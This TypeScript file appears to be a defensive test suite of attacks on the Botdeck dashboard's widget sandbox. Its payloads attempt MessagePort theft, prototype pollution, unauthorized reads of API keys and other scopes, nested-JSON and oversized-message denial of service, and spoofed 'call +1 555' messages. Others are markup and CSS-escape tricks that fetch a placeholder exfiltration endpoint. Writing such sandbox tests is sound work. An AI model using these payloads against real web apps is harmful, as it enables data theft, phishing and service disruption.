import type { Attack } from "../support/attack.ts";

const noChannel = "a frame that nobody guards has no such channel";

/** On the private channel between a widget and the dashboard, which a widget of Botdeck knows as `host`. */
export const channelAttacks: readonly Attack[] = [
  {
    id: "port-by-event",
    title: "the port itself, as the target of the event in which the widget is told something",
    code: String.raw`host.on('res',()=>{const e=globalThis.event;if(e&&e.target instanceof MessagePort){P('holds the port');e.target.postMessage({big:Array.from({length:1e6},()=>({}))})}});host.send({t:'req',id:1,m:'nothing',p:{}});await new Promise(r=>setTimeout(r,1500))`,
    signs: ["log"],
    ownTile: true,
    powerless: noChannel,
  },
  {
    id: "port-by-prototypes",
    title: "the port, by setters and iterators on prototypes that the shell may run over",
    code: String.raw`const look=v=>{if(v instanceof MessagePort)P('caught the port')};for(const k of ['0','target','currentTarget','source','port','ports','data'])Object.defineProperty(Object.prototype,k,{set:look,get(){look(this)},configurable:true});const it=Array.prototype[Symbol.iterator];Array.prototype[Symbol.iterator]=function(){for(let i=0;i<this.length;i++)look(this[i]);return it.call(this)};const ap=Reflect.apply;Reflect.apply=(f,t,a)=>{look(t);return ap(f,t,a)};for(const k of ['call','apply','bind']){const o=Function.prototype[k];Function.prototype[k]=function(...a){look(a[0]);look(this);return o.apply(this,a)}}host.on('res',()=>0);host.send({t:'req',id:1,m:'nothing',p:{}});await new Promise(r=>setTimeout(r,1500))`,
    signs: ["log"],
    ownTile: true,
    powerless: noChannel,
  },
  {
    id: "words-in-the-page",
    title: "words of the widget's own outside of its frame, as why it was stopped",
    code: String.raw`host.send({t:'state',v:'error',message:'{{T}} call +1 555'});host.send({t:'error',message:'{{T}} call +1 555'});host.send({t:'ended',message:'{{T}} your session ended: call +1 555'})`,
    signs: [{ host: "document.body.innerText.includes('{{T}}')" }],
    ownTile: true,
    powerless: noChannel,
  },
  {
    id: "prototype-pollution",
    title: "__proto__ and constructor as keys of whatever the dashboard reads",
    code: String.raw`const bad=JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}');for(const f of [{t:'sub',id:1,path:'__proto__',input:bad},{t:'sub',id:2,path:'constructor.constructor',input:bad},{t:'req',id:3,m:'__proto__',p:bad},{t:'req',id:4,m:'toString',p:bad},{t:'migrated',config:bad}])host.send(f)`,
    signs: [{ host: "({}).polluted!==undefined" }],
    ownTile: true,
    powerless: noChannel,
  },
  {
    id: "reads-undeclared",
    title: "data, storage and links that nobody granted",
    code: String.raw`host.on('data',f=>{if('v' in f)P('read '+JSON.stringify(f.v).slice(0,80))});host.on('res',f=>{if(f.ok)P('was answered '+JSON.stringify(f.v))});let id=0;for(const path of ['stats.messages','bots.list','account.export','apiKeys.list','auth.signOut','sandbox.grants','../bots.list'])host.send({t:'sub',id:id++,path,input:{}});for(const [m,p] of [['storage.set',{key:'a',value:1}],['storage.get',{key:'a'}],['fetch',{url:'{{E}}/x/{{T}}'}],['link.open',{url:'{{E}}/html/{{T}}'}],['link.open',{url:'javascript:alert(1)'}],['sandbox.grant',{capability:'stats:read'}]])host.send({t:'req',id:id++,m,p});await new Promise(r=>setTimeout(r,1500))`,
    signs: ["log", "popup", "dialog"],
    ownTile: true,
    powerless: noChannel,
  },
  {
    id: "another-scope",
    title: "data of others, by naming their scope or widget in the input",
    code: String.raw`host.on('data',f=>{if('v' in f)P('read '+JSON.stringify(f.v).slice(0,80))});let id=0;for(const input of [{scope:'acme'},{userWidgetId:'x'},{userId:'x'},{layoutId:'x'}])host.send({t:'sub',id:id++,path:'stats.messages',input});await new Promise(r=>setTimeout(r,1500))`,
    signs: ["log"],
    ownTile: true,
    powerless: noChannel,
  },
  {
    id: "deep-json",
    title: "a message that is nested thousands deep",
    code: String.raw`let v=1;for(let i=0;i<20000;i++)v=[v];try{host.send({t:'sub',id:1,path:'x',input:v})}catch(e){}let s='1';for(let i=0;i<5000;i++)s='{"a":'+s+'}';host.send({t:'req',id:2,m:'storage.set',p:JSON.parse(s)})`,
    signs: ["stall"],
    ownTile: true,
    powerless: noChannel,
  },
  {
    id: "raw-messages",
    title: "anything but a string of JSON to whoever made this realm",
    code: String.raw`const big=Array.from({length:2e6},(_,i)=>({i}));const send=globalThis.postMessage;for(const m of ['no json','null','[]',big,new ArrayBuffer(2e8)])try{typeof window==='undefined'?send(m):parent.postMessage(m,'*')}catch(e){}`,
    signs: ["stall"],
    ownTile: true,
    powerless: noChannel,
    residual: "one stall of the page, by a giant message to its window",
  },
  {
    id: "tree",
    title: "elements and attributes that load or run, in what a worker asks to be drawn",
    code: String.raw`const u='{{E}}/x/{{T}}';host.send({t:'tree',v:[{el:'iframe',props:{src:'{{E}}/html/{{T}}',srcdoc:'<script>1</script>'}},{el:'img',props:{src:u,onerror:'1'}},{el:'a',props:{href:u,ping:u}},{el:'div',props:{style:'background:url('+u+')',onclick:'console.log("PWNED {{T}}")',innerHTML:'<img src='+u+'>'}},{el:'div',props:{style:'background:u\\72l('+u+')'}},{el:'div',props:{style:'background:image-set("'+u+'" 1x)'}},{el:'div',props:{style:'--a:"'+u+'";background:src(var(--a))'}},{el:'svg',children:[{el:'image',props:{href:u}},{el:'use',props:{href:u}},{el:'rect',props:{fill:'url('+u+'#a)'}},{el:'script',children:['1']},{el:'foreignObject'}]},{el:'style',children:['@import "'+u+'"']},{el:'link',props:{rel:'preconnect',href:'http://{{TCP}}'}},{el:'form',props:{action:u}},{el:'input',props:{autofocus:true}},{el:'__proto__'},{el:'constructor'}]});await new Promise(r=>setTimeout(r,500))`,
    signs: ["egress", "log"],
    ownTile: true,
    powerless: noChannel,
  },
];
